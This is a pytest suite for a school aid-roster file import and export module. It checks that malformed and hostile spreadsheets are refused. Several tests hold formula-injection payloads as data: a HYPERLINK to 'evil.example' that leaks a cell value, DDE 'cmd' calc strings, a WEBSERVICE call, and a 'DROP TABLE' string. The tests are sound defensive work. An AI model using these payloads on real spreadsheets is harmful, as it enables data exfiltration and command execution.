"""File exchange: templates round-trip; malformed and hostile files are refused with the row and
column named, and change nothing."""

from __future__ import annotations

import csv
import time
from pathlib import Path

import openpyxl
import pytest

from visitapp.domain import GrowthKind, HardshipCategory, Level, Stage

from sync_server.platform import files
from sync_server.platform.errors import FileFormatError, PlatformError
from sync_server.platform.model import AidRecord, RosterRow
from tests.platform.conftest import TERM, TODAY, make_connector, make_data

ROWS = [
    RosterRow("WX001000001", "张晓明", "七年级(1)班", Stage.JUNIOR, "3202**********1234", "WX-LX-001", "阳光学校", "梁溪区",
              (HardshipCategory.DISABILITY, HardshipCategory.MIN_LIVING), True, Level.RELATIVELY),
    RosterRow("WX001000002", "欧阳娜娜", "七年级(2)班", Stage.JUNIOR, "3202**********567X", district="梁溪区"),
]
HEADER = [zh for _, zh, _ in files.ROSTER_COLUMNS]


def write_xlsx(path: Path, rows: list[list]) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    wb.save(path)
    return path


def write_csv(path: Path, rows: list[list], encoding: str = "utf-8-sig") -> Path:
    with open(path, "w", encoding=encoding, newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


def fast_xlsx(path: Path, rows: list[list], dimension: bool = True) -> Path:
    """A minimal xlsx with inline strings, written directly (openpyxl takes a minute for 100k rows here)."""
    import zipfile
    from xml.sax.saxutils import escape

    def col(i: int) -> str:
        out = ""
        i += 1
        while i:
            i, r = divmod(i - 1, 26)
            out = chr(65 + r) + out
        return out
    body = []
    for n, r in enumerate(rows, 1):
        cells = "".join(f'<c r="{col(i)}{n}" t="inlineStr"><is><t>{escape(str(v))}</t></is></c>' for i, v in enumerate(r))
        body.append(f'<row r="{n}">{cells}</row>')
    dim = f'<dimension ref="A1:{col(len(rows[0]) - 1)}{len(rows)}"/>' if dimension else ""
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             f'{dim}<sheetData>{"".join(body)}</sheetData></worksheet>')
    ns = "http://schemas.openxmlformats.org"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", f'<?xml version="1.0"?><Types xmlns="{ns}/package/2006/content-types">'
                   '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                   '<Default Extension="xml" ContentType="application/xml"/>'
                   '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                   '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                   '</Types>')
        z.writestr("_rels/.rels", f'<?xml version="1.0"?><Relationships xmlns="{ns}/package/2006/relationships">'
                   f'<Relationship Id="rId1" Type="{ns}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", f'<?xml version="1.0"?><workbook xmlns="{ns}/spreadsheetml/2006/main" '
                   f'xmlns:r="{ns}/officeDocument/2006/relationships"><sheets><sheet name="名册" sheetId="1" r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", f'<?xml version="1.0"?><Relationships xmlns="{ns}/package/2006/relationships">'
                   f'<Relationship Id="rId1" Type="{ns}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
        z.writestr("xl/worksheets/sheet1.xml", sheet)
    return path


def good_row(i: int = 1, **over) -> list:
    values = dict(zip(HEADER, [f"WX00100{i:04d}", "李明", "", "", "", "梁溪区", "三年级(1)班", "小学", "低保", "是", ""]))
    values.update(over)
    return [values[h] for h in HEADER]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_roster_template_round_trips(tmp_path, suffix):
    path = tmp_path / f"roster{suffix}"
    files.write_roster(path, ROWS)
    parsed = files.parse_file(path)
    assert parsed.template == "roster" and parsed.roster == tuple(ROWS)


def test_aid_template_round_trips_into_growth_entries(tmp_path):
    path = tmp_path / "aid.xlsx"
    records = [AidRecord("A1", "WX001000001", "social_programme", "筑梦书香", TODAY, "筑梦书香", 500.0),
               AidRecord("A2", "WX001000001", "lunch_waiver", "午餐费减免", TODAY, "", None),
               AidRecord("A3", "WX999", "grant", "国家助学金", TODAY, "", 1000.0)]
    files.write_aid(path, records)
    assert files.parse_file(path).aid == tuple(records)
    data = make_data()
    conn = make_connector(data, None)
    conn.apply(conn.preview(ROWS, TERM))
    preview = conn.import_file(path, apply=False)
    assert (preview.added, preview.orphans) == (0, ("WX999",)) and data.growth_entries() == []
    result = conn.import_file(path)
    assert (result.added, result.orphans) == (2, ("WX999",))
    assert conn.import_file(path).added == 0
    aid = [e for e in data.growth_entries() if e.kind == GrowthKind.AID]
    assert len(aid) == 2 and {e.programme for e in aid} == {"筑梦书香", ""}


def test_gbk_csv_is_accepted(tmp_path):
    path = write_csv(tmp_path / "gbk.csv", [HEADER, good_row(1, 姓名="张晓明", 班级="七年级(1)班")], encoding="gbk")
    (row,) = files.parse_file(path).roster
    assert row.name == "张晓明" and row.class_name == "七年级(1)班" and row.hardship_categories == (HardshipCategory.MIN_LIVING,)


def _refused(path: Path, row: int | None, column: str | None, words: str) -> FileFormatError:
    data = make_data()
    conn = make_connector(data, None)
    conn.apply(conn.preview(ROWS, TERM))
    before = (data.students(), data.growth_entries())
    with pytest.raises(FileFormatError) as err:
        conn.import_file(path)
    assert (err.value.row, err.value.column) == (row, column), str(err.value)
    assert words in str(err.value)
    if row is not None:
        assert f"第 {row} 行" in str(err.value)
    assert (data.students(), data.growth_entries()) == before  # nothing changed
    assert data.exchanges()[-1].result == "failed"
    return err.value


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_wrong_columns(tmp_path, suffix):
    writer = write_xlsx if suffix == ".xlsx" else write_csv
    path = writer(tmp_path / f"w{suffix}", [["序号", "学生", "年级"], ["1", "张三", "七年级"]])
    _refused(path, 1, None, "表头")
    path = writer(tmp_path / f"m{suffix}", [["平台编号", "姓名", "学段"], ["WX1", "张三", "初中"]])
    _refused(path, 1, None, "班级")


@pytest.mark.parametrize("formula", ['=HYPERLINK("http://evil.example/?x="&A2,"点我")', "=cmd|' /C calc'!A0",
                                     "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0"])
@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_formulas_are_refused(tmp_path, formula, suffix):
    writer = write_xlsx if suffix == ".xlsx" else write_csv
    path = writer(tmp_path / f"f{suffix}", [HEADER, good_row(1), good_row(2, 姓名=formula)])
    _refused(path, 3, "姓名", "公式")


def test_formula_in_an_unread_column_is_refused_too(tmp_path):
    path = write_xlsx(tmp_path / "x.xlsx", [HEADER + ["备注"], good_row(1) + ['=WEBSERVICE("http://x")']])
    _refused(path, 2, "备注", "公式")


@pytest.mark.parametrize("column,value,words", [
    ("学段", "大学", "不是学段"), ("困难类别", "低保、富裕", "困难类别"), ("免申即享", "也许", "是”或“否"),
    ("身份证号（脱敏）", "320202201001011234", "完整身份证号"), ("姓名", "张三320202201001011234", "完整身份证号"),
    ("身份证号（脱敏）", "3202-1234", "脱敏"), ("平台编号", "WX 1;DROP TABLE", "平台编号"), ("平台认定等级", "5", "认定等级"),
    ("姓名", "张\x07三", "控制字符"),
])
@pytest.mark.parametrize("writer", [fast_xlsx, write_csv])
def test_bad_cells_name_row_and_column(tmp_path, column, value, words, writer):
    if writer is fast_xlsx and "\x07" in value:
        pytest.skip("XML cannot hold a control character at all; Excel escapes it")
    path = writer(tmp_path / ("b.xlsx" if writer is fast_xlsx else "b.csv"),
                  [HEADER, good_row(1), good_row(2), good_row(3, **{column: value})])
    _refused(path, 4, column, words)


def test_duplicate_reference_names_both_rows(tmp_path):
    path = write_csv(tmp_path / "d.csv", [HEADER, good_row(1), good_row(2), good_row(1)])
    err = _refused(path, 4, "平台编号", "重复")
    assert "第 2 行" in str(err)


def test_empty_required_cell(tmp_path):
    path = write_csv(tmp_path / "e.csv", [HEADER, good_row(1, 班级="")])
    _refused(path, 2, "班级", "不能为空")


@pytest.mark.parametrize("payload,words", [
    (b"\xff\xfe" + "平台编号,姓名\n".encode("utf-16-le"), "UTF-16"),
    ("平台编号,姓名,班级,学段\nWX1,张三,一班,小学\n".encode() + b"WX2,\x81\xff\xfe,\x80\x80,x\n", "字符编码"),
])
def test_bad_encodings_are_refused(tmp_path, payload, words):
    path = tmp_path / "enc.csv"
    path.write_bytes(payload)
    err = _refused(path, err_row(payload), None, words)
    assert err.row is not None


def err_row(payload: bytes) -> int:
    return 1 if b"\x00" in payload else 3


@pytest.mark.parametrize("content", [b"PK\x03\x04 not really a zip", b"\x00" * 100, b"<html>not a workbook</html>"])
def test_broken_xlsx(tmp_path, content):
    path = tmp_path / "broken.xlsx"
    path.write_bytes(content)
    _refused(path, None, None, "broken.xlsx")


def test_not_a_table_file(tmp_path):
    path = tmp_path / "roster.txt"
    path.write_text("hello")
    _refused(path, None, None, ".xlsx 或 .csv")


@pytest.fixture(scope="session")
def huge_files(tmp_path_factory):
    """100,000 data rows as csv and as xlsx (with the dimension tag Excel writes); made once per session."""
    base = tmp_path_factory.mktemp("huge")
    rows = [HEADER] + [good_row(i) for i in range(100_000)]
    return write_csv(base / "huge.csv", rows), fast_xlsx(base / "huge.xlsx", rows)


@pytest.mark.parametrize("which", [0, 1])
def test_100k_rows_are_refused_quickly(huge_files, which):
    started = time.monotonic()
    err = _refused(huge_files[which], None, None, f"超过 {files.MAX_ROWS} 行")
    assert "分批" in str(err)
    assert time.monotonic() - started < 5


def test_row_limit_holds_without_a_dimension_tag(tmp_path, monkeypatch):
    monkeypatch.setattr(files, "MAX_ROWS", 500)
    path = fast_xlsx(tmp_path / "nodim.xlsx", [HEADER] + [good_row(i) for i in range(1000)], dimension=False)
    _refused(path, None, None, "超过 500 行")


def test_oversized_file_is_refused_before_reading(tmp_path, monkeypatch):
    monkeypatch.setattr(files, "MAX_FILE_BYTES", 1000)
    path = write_csv(tmp_path / "big.csv", [HEADER] + [good_row(i) for i in range(50)])
    _refused(path, None, None, "超过上限")


def test_exported_cells_never_run_as_formulas(tmp_path):
    from sync_server.platform.model import UploadItem
    # (no upload value is free text any more; the writer guards every cell all the same)
    item = UploadItem("reward", "r1", "s1", {"item_id": "i", "version": "v", "kind": "reward",
                                              "student_ref": '=HYPERLINK("http://evil")',
                                              "term": TERM, "reward_kind": "commendation", "entry_date": "2026-11-01"})
    files.write_upload(tmp_path / "u.xlsx", [item], [])
    ws = openpyxl.load_workbook(tmp_path / "u.xlsx")["成长奖励"]
    cell = ws.cell(row=2, column=4)
    assert cell.data_type != "f" and str(cell.value).startswith("'=")
    files.write_upload(tmp_path / "u.csv", [item], [])
    assert "'=HYPERLINK" in (tmp_path / "u.csv").read_text(encoding="utf-8-sig")


def test_a_roster_that_would_empty_the_school_is_refused_unless_forced(tmp_path):
    data = make_data()
    conn = make_connector(data, None)
    big = [RosterRow(f"WX{i:06d}", "李明", "一年级(1)班", Stage.PRIMARY) for i in range(30)]
    conn.apply(conn.preview(big, TERM))
    path = write_csv(tmp_path / "tiny.csv", [HEADER, good_row(1)])
    with pytest.raises(PlatformError, match="--force"):
        conn.import_file(path)
    assert all(s.on_roster for s in data.students()) and data.exchanges()[-1].result == "failed"
    preview = conn.import_file(path, force=True)
    assert len(preview.gone) == 30 and sum(s.on_roster for s in data.students()) == 1
